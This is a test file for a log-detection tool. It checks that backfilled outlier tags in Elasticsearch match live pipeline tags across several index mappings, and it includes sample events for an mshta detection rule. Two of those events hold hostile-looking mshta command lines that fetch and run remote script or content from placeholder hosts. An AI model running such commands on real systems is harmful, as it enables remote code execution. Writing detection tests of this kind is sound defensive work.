/**
 * Live == backfill on the mappings real clusters have (test/fixtures/mappings/: ES's default dynamic
 * mapping, Winlogbeat 7.x's template, an ECS layout with `.text` sub-fields, an index ee-outliers
 * already tagged with text + `.keyword` tag fields; plus our own template). For each: the corpus
 * (../shared regression events + OUTLIERS_MATRIX_EVENTS generated ones, default 20,000) is indexed
 * plain with that mapping and backfilled by the binary with the full Windows rule set; every event
 * must carry exactly the tags the live pipeline gave it, a second backfill writes nothing, exit 0.
 *
 * Live tags depend on `_source` only (the pipeline runs before any mapping), so ONE live-indexed
 * corpus is the reference for every mapping (the ee-outliers-tagged events get their own small live
 * index, since their sources differ). NVISO's mshta use case is checked on the dynamic, Winlogbeat-7
 * and our own mapping: exactly the 2 right documents, live and via backfill.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { cluster, dropIndices, ES_URL, testIndex } from "../helpers/es.ts";
import {
  bulk,
  canonical,
  events,
  PROFILE,
  putPipeline,
  ROOT,
  ruleSet,
  sources,
  stateDir,
  tagFields,
  type Doc,
} from "../helpers/backfill-fixture.ts";
import { SHARED, SKIP_MESSAGE } from "../helpers/windows-rules.ts";
import { compileEeOutliersFiles } from "../../src/rules/eeoutliers/compile.ts";
import { automatonLeaves, candidateQuery } from "../../src/cluster/history/backfill-queries.ts";
import { discoverFields } from "../../src/cluster/connection/field-discovery.ts";
import type { Rule } from "../../src/ir/types.ts";

const N = Number(process.env.OUTLIERS_MATRIX_EVENTS ?? 20000);
/**
 * Rules whose exact prefilter is checked per mapping (spread over those that tagged something, at
 * most 20 automaton leaves each: building the big leading-wildcard automata takes the node minutes,
 * which the CI budget does not have; OUTLIERS_MATRIX_EXACT_RULES=0 checks them all).
 */
const EXACT_RULES = Number(process.env.OUTLIERS_MATRIX_EXACT_RULES ?? 120);
const FIXTURES = path.join(ROOT, "test/fixtures/mappings");
const BIN = path.join(ROOT, "dist/outliers");

interface IndexBody {
  settings?: Record<string, unknown>;
  mappings: Record<string, unknown>;
}

function fixture(name: string): IndexBody {
  if (name === "ours") return PROFILE.indexTemplate();
  const { settings, mappings } = JSON.parse(readFileSync(path.join(FIXTURES, `${name}.json`), "utf8"));
  return { settings, mappings };
}

const MAPPINGS = ["dynamic", "winlogbeat-7", "ecs-text", "ours", "eeoutliers-tagged"];

/** The binary when built (scripts/test builds it), else the CLI from source. */
function cmd(args: string[]): string[] {
  return existsSync(BIN)
    ? [BIN, ...args, "--node", ES_URL]
    : [process.execPath, path.join(ROOT, "src/cli.ts"), ...args, "--node", ES_URL];
}

async function run(args: string[], state: string): Promise<{ code: number; json: any; stderr: string }> {
  const p = Bun.spawn(cmd(args), {
    cwd: ROOT,
    stdout: "pipe",
    stderr: "pipe",
    env: { ...process.env, OUTLIERS_STATE_DIR: state },
  });
  const [stdout, stderr] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text()]);
  const code = await p.exited;
  let json: any;
  try {
    json = JSON.parse(stdout);
  } catch {
    throw new Error(`exit ${code}, no JSON on stdout: ${stdout.slice(0, 500)} ${stderr.slice(0, 2000)}`);
  }
  return { code, json, stderr };
}

async function createWith(index: string, body: IndexBody, pipeline?: string): Promise<void> {
  const { client } = await cluster();
  const settings = { ...(body.settings ?? {}), ...(pipeline ? { "index.default_pipeline": pipeline } : {}) };
  await client.indices.create({ index, settings, mappings: body.mappings } as any);
}

/** ee-outliers' own tags (no rule id: ee-outliers writes none) on every 40th event, for the tagged-index case. */
function eeOutliersTagged(docs: Doc[]): Doc[] {
  return docs.map((d, i) =>
    i % 40 === 0
      ? {
          id: d.id,
          source: {
            ...structuredClone(d.source),
            tags: ["outlier"],
            outliers: {
              type: ["suspicious process"],
              reason: ["ee-outliers earlier run"],
              summary: ["x"],
              model_name: ["old_model"],
              model_type: ["simplequery"],
              total_outliers: 1,
            },
          },
        }
      : d,
  );
}

/**
 * Bulk-loads `docs`, returning the ids the mapping refused: on a mapping not made for these events
 * (ES's dynamic one) a generated edge value (`winlog.event_id: "decoy"` after a number) is refused
 * at indexing, before any tagging; such events are absent from both sides of the comparison.
 */
async function bulkKeepRefused(index: string, docs: Doc[]): Promise<Map<string, string>> {
  const { client } = await cluster();
  const refused = new Map<string, string>();
  for (let i = 0; i < docs.length; i += 2000) {
    const body: object[] = [];
    for (const d of docs.slice(i, i + 2000)) body.push({ index: { _index: index, _id: d.id } }, d.source);
    const res: any = await client.bulk({ body } as any);
    if (res.errors)
      for (const it of res.items)
        if (it.index?.error)
          refused.set(it.index._id, `${it.index.error.type}: ${it.index.error.reason}`.slice(0, 200));
  }
  await client.indices.refresh({ index });
  return refused;
}

/**
 * "The prefilter only widens": each rule's own query compiled for this index's real mapping (the
 * exact prefilter, `candidateQuery(rule, "exact", fields)`) must select every event live tagging
 * gave the rule. Checked on EXACT_RULES rules that tagged something, by counting its query within those ids.
 */
async function supersetMisses(
  index: string,
  rules: Rule[],
  reference: Map<string, any>,
  refused: Map<string, string>,
): Promise<{ checked: number; misses: string[]; refusedByCluster: number }> {
  const c = await cluster();
  const d = await discoverFields(c, [index]);
  const byRule = new Map<string, string[]>();
  for (const [id, src] of reference)
    if (!refused.has(id))
      for (const r of (src.outliers?.rule_id ?? []) as string[]) (byRule.get(r) ?? byRule.set(r, []).get(r)!).push(id);
  const tagged = rules.filter((r) => byRule.has(r.id) && (EXACT_RULES === 0 || automatonLeaves(r) <= 20));
  const step = EXACT_RULES === 0 ? 1 : Math.max(1, Math.floor(tagged.length / EXACT_RULES));
  const todo = tagged.filter((_, i) => i % step === 0);
  const misses: string[] = [];
  let refusedByCluster = 0;
  for (let i = 0; i < todo.length; i += 25) {
    const batch = todo.slice(i, i + 25);
    const searches: object[] = [];
    for (const r of batch)
      searches.push(
        { index },
        {
          size: 0,
          track_total_hits: true,
          query: {
            bool: { filter: [candidateQuery(r, "exact", d.fields).query, { ids: { values: byRule.get(r.id) } }] },
          },
        },
      );
    const res: any = await c.client.msearch({ searches } as any, { requestTimeout: 3_600_000 });
    res.responses.forEach((resp: any, j: number) => {
      const r = batch[j]!;
      if (resp.error)
        refusedByCluster++; // backfill widens such a rule (validate); nothing to compare
      else if (resp.hits.total.value !== byRule.get(r.id)!.length)
        misses.push(`${r.id}: live ${byRule.get(r.id)!.length}, its query on this mapping ${resp.hits.total.value}`);
    });
  }
  return { checked: todo.length - refusedByCluster, misses, refusedByCluster };
}

function compare(
  actual: Map<string, any>,
  reference: Map<string, any>,
  refused: Map<string, string>,
): { diffs: string[]; tagged: number } {
  const diffs: string[] = [];
  let tagged = 0;
  for (const [id, ref] of reference) {
    if (refused.has(id)) continue;
    const got = actual.get(id);
    if (!got) {
      diffs.push(`${id}: missing from the backfilled index`);
      continue;
    }
    if (ref.outliers?.rule_id?.length) tagged++;
    if (canonical(tagFields(got)) !== canonical(tagFields(ref)))
      diffs.push(
        `${id}: live ${canonical(tagFields(ref)).slice(0, 300)} backfill ${canonical(tagFields(got)).slice(0, 300)}`,
      );
  }
  return { diffs, tagged };
}

if (!SHARED) console.warn(SKIP_MESSAGE);

describe.skipIf(!SHARED)("live == backfill on real-world mappings, full Windows rule set", () => {
  const set = SHARED ? ruleSet() : { rules: [], paths: [], origin: "" };
  const docs = SHARED ? events(set.rules, N) : [];
  const preTagged = eeOutliersTagged(docs).filter((d, i) => i % 40 === 0);
  const pipeline = testIndex("mx-pipe");
  const live = testIndex("mx-live");
  const liveTagged = testIndex("mx-live-ee");
  const created: string[] = [live, liveTagged];
  let reference = new Map<string, any>();

  beforeAll(async () => {
    await putPipeline(pipeline, set.rules);
    await createWith(live, fixture("ours"), pipeline);
    await createWith(liveTagged, fixture("ours"), pipeline);
    await bulk(live, docs);
    await bulk(liveTagged, preTagged);
    reference = await sources(live);
  }, 1_800_000);

  afterAll(async () => {
    await dropIndices(...created);
    const { client } = await cluster();
    await client.ingest.deletePipeline({ id: pipeline }).catch(() => {});
  });

  for (const name of MAPPINGS) {
    test(`${name}: every event gets the live tags, a re-run writes nothing, exit 0`, async () => {
      const plain = testIndex(`mx-${name}`);
      created.push(plain);
      const corpus = name === "eeoutliers-tagged" ? eeOutliersTagged(docs) : docs;
      await createWith(plain, fixture(name));
      const refused = await bulkKeepRefused(plain, corpus);
      if (refused.size)
        console.log(
          `${name}: the mapping refused ${refused.size} event(s) at indexing, e.g. ${[...refused.values()][0]}`,
        );
      expect(refused.size).toBeLessThan(corpus.length / 10);
      let ref = reference;
      if (name === "eeoutliers-tagged") {
        ref = new Map(reference);
        for (const [id, src] of await sources(liveTagged)) ref.set(id, src);
      }
      const state = stateDir();
      const t0 = Date.now();
      // `--prefilter terms`: the broad rules' union compiled for this mapping selects the candidates
      // (auto would choose the bare window here, and the mapping would not matter); the re-run is auto.
      const first = await run(
        ["backfill", ...set.paths, "--since", "30d", "--index", plain, "--json", "--prefilter", "terms"],
        state,
      );
      const secs = (Date.now() - t0) / 1000;
      expect(first.json.failures).toEqual([]);
      expect(first.json.warnings).toEqual([]);
      expect(first.code).toBe(0);
      const kinds = first.json.prefilter.map((p: any) => p.kind);
      // OpenSearch counts its 1,024-clause limit over the whole query: where the union compiled for a
      // mapping exceeds it (the dynamic mapping's widened clauses), the backfill falls back to the
      // window and the script decides, as everywhere. Elasticsearch takes the union.
      if ((process.env.OUTLIERS_TEST_ENGINE ?? "elasticsearch").startsWith("opensearch"))
        expect(["union", "window"]).toContain(kinds[0]);
      else expect(kinds).toEqual(["union"]);
      const { diffs, tagged } = compare(await sources(plain), ref, refused);
      console.log(
        `${name}: ${corpus.length - refused.size} events, ${tagged} tagged live, backfill checked ${first.json.checked} tagged ${first.json.tagged} (${first.json.prefilter?.[0]?.kind ?? "exact"} prefilter: ${first.json.prefilter?.[0]?.unionEvents} of ${first.json.prefilter?.[0]?.windowEvents} events) in ${secs.toFixed(0)}s, ${diffs.length} differences`,
      );
      if (diffs.length) console.log(diffs.slice(0, 5).join("\n"));
      expect(diffs.length).toBe(0);
      expect(tagged).toBeGreaterThan(corpus.length / 5);
      // The counts come from the tag fields as this index maps them (ee-outliers: the .keyword).
      expect(first.json.rules.reduce((a: number, r: any) => a + r.count, 0)).toBeGreaterThan(0);
      const sup = await supersetMisses(plain, set.rules, ref, refused);
      console.log(
        `${name}: exact prefilter of ${sup.checked} rules that tagged something selects all their live events: ${sup.misses.length} misses (${sup.refusedByCluster} queries refused)`,
      );
      if (sup.misses.length) console.log(sup.misses.slice(0, 5).join("\n"));
      expect(sup.misses).toEqual([]);
      const again = await run(["backfill", ...set.paths, "--since", "30d", "--index", plain, "--json"], stateDir());
      expect(again.code).toBe(0);
      expect(again.json.tagged).toBe(0);
      await dropIndices(plain);
    }, 1_800_000);
  }
});

describe("NVISO's mshta use case on real-world mappings: the 2 right documents, live and via backfill", () => {
  const conf = path.join(ROOT, "test/fixtures/ee-outliers/mshta.conf");
  const ts = new Date(Date.now() - 3_600_000).toISOString();
  const ev = (id: string, data: Record<string, string>): Doc => ({
    id,
    source: {
      "@timestamp": ts,
      winlog: { channel: "Microsoft-Windows-Sysmon/Operational", event_id: 1, event_data: data },
    },
  });
  const docs = [
    ev("m-vbscript", {
      Image: "C:\\Windows\\System32\\mshta.exe",
      CommandLine: 'mshta.exe vbscript:Close(Execute("GetObject(""script:https://x/a"")"))',
    }),
    ev("m-png", { Image: "C:\\Windows\\SysWOW64\\mshta.exe", CommandLine: "mshta.exe http://198.51.100.7/a.png" }),
    ev("m-hta", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta.exe C:\\Users\\bob\\a.hta" }),
    ev("m-upper", { Image: "C:\\WINDOWS\\SYSTEM32\\MSHTA.EXE", CommandLine: "MSHTA VBSCRIPT:x" }),
    ev("m-notmshta", { Image: "C:\\tools\\notmshta.exe", CommandLine: "notmshta a.jpg" }),
    // longer than the dynamic mapping's ignore_above (256): only _source knows it matches
    ev("m-long", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: `mshta.exe ${"A".repeat(300)} x.hta` }),
  ];
  const expected = ["m-png", "m-vbscript"];
  const rules = compileEeOutliersFiles([conf], { profile: PROFILE }).flatMap((r) =>
    r.status === "ok" ? [r.rule] : [],
  );

  for (const name of ["dynamic", "winlogbeat-7", "ours"]) {
    test(name, async () => {
      const pipe = testIndex("mshta-pipe");
      const live = testIndex(`mshta-live-${name}`);
      const plain = testIndex(`mshta-plain-${name}`);
      try {
        await putPipeline(pipe, rules);
        await createWith(live, fixture(name), pipe);
        await createWith(plain, fixture(name));
        await bulk(live, docs);
        await bulk(plain, docs);
        const taggedIn = async (ix: string) =>
          [...(await sources(ix))]
            .filter(([, s]) => s.outliers?.rule_id?.includes("simplequery_sigma_win_susp_mshta_execution"))
            .map(([id]) => id)
            .sort();
        expect(await taggedIn(live)).toEqual(expected);
        const r = await run(["backfill", conf, "--since", "1d", "--index", plain, "--json"], stateDir());
        expect(r.code).toBe(0);
        expect(r.json.tagged).toBe(2);
        expect(await taggedIn(plain)).toEqual(expected);
        const liveSrc = await sources(live);
        for (const [id, s] of await sources(plain))
          expect(canonical(tagFields(s))).toBe(canonical(tagFields(liveSrc.get(id))));
      } finally {
        await dropIndices(live, plain);
        const { client } = await cluster();
        await client.ingest.deletePipeline({ id: pipe }).catch(() => {});
      }
    }, 120_000);
  }
});
